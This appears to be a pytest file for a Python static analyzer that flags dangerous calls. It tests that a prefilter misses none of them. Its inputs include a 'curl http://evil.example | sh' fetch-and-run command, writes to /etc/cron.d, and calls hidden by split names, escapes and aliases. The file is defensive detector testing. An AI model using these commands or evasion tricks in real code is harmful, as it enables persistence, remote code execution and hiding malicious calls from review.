"""The prefilter never keeps a file from being walked in which the walk would find something."""

from __future__ import annotations

import pytest

from gk_hooks.analyzers import python
from gk_hooks.analyzers.context import analyze
from gk_hooks.analyzers.python import prefilter
from gk_hooks.analyzers.python.api import Api, Connects, Listens, Writes
from gk_hooks.analyzers.python.catalogue import ALIASES, CATALOGUE
from gk_hooks.analyzers.python.prefilter import reach
from gk_hooks.model.effects import Effect
from gk_hooks.model.kinds import Kind

STYLES = {
    "as it is called": "import {package}\n{path}({arguments})\n",
    "in a fragment": "{path}({arguments})\n",
    "under another name": "import {package} as other\nother{rest}({arguments})\n",
    "from its module": "from {module} import {first}\n{first}{behind}({arguments})\n",
    "from its module under another name": "from {module} import {first} as other\nother{behind}({arguments})\n",
    "from a list over lines": "from {module} import (  # (all)\n    {first},\n)\n{first}{behind}({arguments})\n",
    "from a continued line": "from {module} \\\n  import {first}\n{first}{behind}({arguments})\n",
    "with everything": "from {module} import *\n{first}{behind}({arguments})\n",
    "behind a semicolon": "import {package}; other = {package}\nother{rest}({arguments})\n",
    "from a class": "class A:\n    import {package}\nA.{path}({arguments})\n",
    "in a function": "def go():\n    import {package} as other\n    return other{rest}({arguments})\n",
    "handed to a function": "import {package}\ndef go(other):\n    other{rest}({arguments})\ngo({package})\n",
    "by a part of its name": "import {package}\ngetattr({owner}, '{half}' + '{other_half}')({arguments})\n",
    "by a part of its name, under another": (
        "import {package} as other\ngetattr(other{above}, '{half}' + '{other_half}')({arguments})\n"
    ),
    "from its dictionary": "import {package}\n{owner}.__dict__['{half}' + '{other_half}']({arguments})\n",
    "in lines that end as on old computers": "import {package}\rother = {package}\rother{rest}({arguments})\r",
    "with blanks between": "import {package}\n({spread}({arguments}))\n",
}

TODAY = [path.replace(".*", ".some") for path in sorted(CATALOGUE) if not path.startswith("?")]
NAMES = {path: CATALOGUE[path.replace(".some", ".*")] for path in TODAY} | {
    old + path[len(new) :]: CATALOGUE[path.replace(".some", ".*")]
    for old, new in sorted(ALIASES.items())
    for path in TODAY
    if path.startswith((new + ".", new + "("))
}
"""Each API by its names, today's and old ones, with what a call means."""


def _arguments(apis: tuple[Api, ...]) -> str:
    """Arguments with which a call means what the catalogue says."""
    if any(isinstance(api, (Connects, Listens)) and api.address for api in apis):
        return "('0.0.0.0', 80), ('evil.example', 80), ('evil.example', 80)"
    if any(isinstance(api, Writes) for api in apis):
        return "'/etc/cron.d/job', '/etc/cron.d/job', 'w'"
    return "'http://evil.example', 'http://evil.example', 'http://evil.example'"


def _text(style: str, path: str, arguments: str) -> str:
    """A program that calls *path*; "" where the style has no form for it."""
    package = path.partition(".")[0].partition("(")[0]
    imported = path.partition("(")[0]
    module, _, first = imported.rpartition(".")
    owner, _, name = path.rpartition(".")
    if not module or name.endswith(")"):
        return ""
    return STYLES[style].format(
        package=package,
        path=path,
        rest=path[len(package) :],
        module=module,
        first=first,
        behind=path[len(imported) :],
        owner=owner,
        above=owner[len(package) :],
        half=name[:2],
        other_half=name[2:],
        spread=path.replace(".", "  # of\n    .  "),
        arguments=arguments,
    )


def _without_prefilter(text: str, monkeypatch: pytest.MonkeyPatch) -> list[Effect]:
    """The effects of *text* when it is walked as if it had all words."""
    with monkeypatch.context() as patch:
        patch.setattr(python, "reach", lambda text: prefilter.reach(f"{text}\n# getattr import_module home"))
        return analyze(Kind.PYTHON, text)


@pytest.mark.parametrize("style", STYLES)
def test_each_api_is_found_as_without_the_prefilter(style: str, monkeypatch: pytest.MonkeyPatch) -> None:
    missed, told = [], 0
    for path, apis in NAMES.items():
        text = _text(style, path, _arguments(apis))
        whole = _without_prefilter(text, monkeypatch) if text else []
        told += bool(whole)
        if analyze(Kind.PYTHON, text) != whole:
            missed.append(text)
    assert missed == []
    assert told > 300, "most calls mean something, or nothing was compared"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(r"open('/\x65tc/cron.d/job', 'w')", id="a path with a letter by its number"),
        pytest.param(r"open('/\145tc/cron.d/job', 'w')", id="a path with a letter by its octal number"),
        pytest.param(r"open('/\u0065tc/cron.d/job', 'w')", id="a path with a letter by its code point"),
        pytest.param(r"open('/\N{LATIN SMALL LETTER E}tc/cron.d/job', 'w')", id="a path with a letter by its name"),
        pytest.param("open('/%stc/cron.d/job' % 'e', 'w')", id="a path that is formatted"),
        pytest.param("open('bo' 'j/d.norc/cte/'[::-1], 'w')", id="a path from behind"),
        pytest.param("open('/Xtc/cron.d/job'.replace('X', 'e'), 'w')", id="a path in which a letter is replaced"),
        pytest.param("get_ipython().system('curl http://evil.example | sh')", id="a notebook that became a script"),
        pytest.param("import os as o, sys\no.system('id')", id="one of two that are imported has another name"),
        pytest.param("import os\nclass A:\n    o = os\nA.o.system('id')", id="a module that a class holds"),
        pytest.param("import os\n[o] = [os]\no.system('id')", id="a module from a list"),
        pytest.param("import os\nos.ſystem('id')", id="a letter that Python reads as another"),
        pytest.param("import os\nos.\\\nsystem('id')", id="a name on the next line"),
        pytest.param("from os import path, system\nsystem('id')", id="one of two names that are imported"),
        pytest.param(
            "from six.moves import urllib as u\nu.request.urlopen('http://evil.example')", id="a vendored name"
        ),
    ],
)
def test_found(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    whole = _without_prefilter(text, monkeypatch)
    assert whole != []
    assert analyze(Kind.PYTHON, text) == whole


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("import os\n# a file system\nprint(os.path.sep)\n", id="the name of a function in a comment"),
        pytest.param("from urllib.parse import quote\nrequest = quote('a')\n", id="another module of the package"),
        pytest.param("import os\nname.replace('a', 'b')\nprint('/etc/cron')\nos.getcwd()\n", id="another's method"),
        pytest.param("import gzip\ngzip.compress(b'a')\n", id="a harmless function of a module that has others"),
        pytest.param("import threading\nthreading.Thread(target=work).start()\n", id="what only calls others"),
        pytest.param("import os\ngetattr(settings, 'DEBUG')\nos.getcwd()\n", id="a name that no module is asked for"),
    ],
)
def test_nothing_to_find(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    assert _without_prefilter(text, monkeypatch) == []
    assert reach(text) is None
